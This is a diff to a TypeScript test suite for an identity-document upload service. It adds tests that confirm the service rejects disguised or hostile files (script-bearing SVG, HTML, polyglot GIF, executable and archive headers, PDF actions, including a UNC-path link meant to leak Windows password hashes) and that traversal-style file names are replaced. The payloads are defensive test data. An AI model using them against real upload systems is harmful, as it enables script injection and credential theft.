@@ -25,7 +25,7 @@ describe('An uploaded identity document', () => {
 
   /** A candidate at the link of a verification, and what of the candidate's staff see. */
   async function requestDocument(): Promise<{
-    upload: (content: Uint8Array<ArrayBuffer>, name?: string) => Promise<Visitor>;
+    upload: (content: Uint8Array<ArrayBuffer>, name?: string, type?: string) => Promise<Visitor>;
     stored: () => Promise<{ type: string; content: Buffer }[]>;
   }> {
     const { id } = await reports.create('pending');
@@ -35,9 +35,9 @@ describe('An uploaded identity document', () => {
     const link = verification.verification_url;
     const candidate = await openLink(service, link);
     return {
-      upload: async (content, name = 'passport.jpg') => {
+      upload: async (content, name = 'passport.jpg', type = '') => {
         const form = new FormData();
-        form.set('document', new File([content], name));
+        form.set('document', new File([content], name, { type }));
         await candidate.upload(link, form);
         return candidate;
       },
@@ -87,6 +87,44 @@ describe('An uploaded identity document', () => {
     }
   });
 
+  it('is refused if it is anything else than a photo or a PDF, whatever it calls itself', async () => {
+    const drawing = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
+    const pdf = await createPdf();
+    const { upload, stored } = await requestDocument();
+    for (const [name, content] of [
+      ['SVG', Buffer.from(drawing)],
+      ['page', Buffer.from(`<!doctype html>${drawing}`)],
+      ['GIF', Buffer.from('GIF89a/*alert(1)*/=1;')],
+      ['program', Buffer.from('MZ\x90\0')],
+      ['archive before a PDF', Buffer.concat([Buffer.from('PK\x03\x04'), pdf])],
+      ['page before a PDF', Buffer.concat([Buffer.from(drawing), pdf])],
+      ['PostScript', Buffer.from('%!PS-Adobe-3.0\n(x) run')],
+    ] as const)
+      for (const [file, type] of [
+        ['passport.jpg', 'image/jpeg'],
+        ['passport.pdf', 'application/pdf'],
+      ] as const) {
+        const { status, text } = await upload(Buffer.from(content), file, type);
+        assert.equal(status, 400, name);
+        assert.match(text, /JPEG or PNG/, name);
+      }
+    assert.deepEqual(await stored(), []);
+  });
+
+  it('gets its type from its content, and its name from the service', async () => {
+    const names = ['../../../etc/passwd', 'C:\\x\\y.exe', 'page.html', 'a\0b.svg', `${'x'.repeat(3000)}.php`];
+    for (const name of names) {
+      const { upload, stored } = await requestDocument();
+      const { status } = await upload(createPng(30, 20), name, 'text/html');
+      assert.equal(status, 200, name);
+      assert.deepEqual(
+        (await stored()).map(({ type }) => type),
+        ['image/png'],
+      );
+    }
+    for (const id of await service.container.files.list()) assert.match(id, /^[0-9a-f]{24}$/);
+  });
+
   it('is refused if an image has more pixels than memory should hold, or cannot be decoded', async () => {
     const { upload, stored } = await requestDocument();
     const bomb = createPng(30_000, 30_000);
@@ -122,6 +160,8 @@ describe('An uploaded identity document', () => {
       ],
       ['script', await action({ S: 'JavaScript', JS: new String('app.alert(1)') }), /scripts/],
       ['launch', await action({ S: 'Launch', F: new String('cmd.exe') }), /scripts/],
+      // A path on a server, to which Windows signs in: its owner learns the hash of the password.
+      ['file elsewhere', await action({ S: 'GoToR', F: new String('//198.51.100.1/x'), D: [0] }), /scripts/],
       [
         'attachment',
         await createPdf((document) => document.file(Buffer.from('MZ'), { name: 'a.exe' })),
@@ -175,12 +215,18 @@ describe('An uploaded identity document', () => {
     assert.deepEqual(await stored(), []);
   });
 
-  const expectRefusal = async () => {
+  it('is asked for again when the disk for files is full, and nothing of it is stored', async (test) => {
+    const full = Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' });
+    test.mock.method(service.container.files, 'write', () => Promise.reject(full));
+    await expectRefusal(/can&#39;t answer right now/);
+  });
+
+  const expectRefusal = async (sentence = /Try again in a few minutes/) => {
     const { upload, stored } = await requestDocument();
     const candidate = await upload(await createPhoto());
     assert.equal(candidate.status, 503);
     assert.ok(Number(candidate.headers.get('Retry-After')) > 0);
-    assert.match(candidate.text, /Try again in a few minutes/);
+    assert.ok(sentence.test(candidate.text));
     assert.deepEqual(await stored(), []);
   };
 
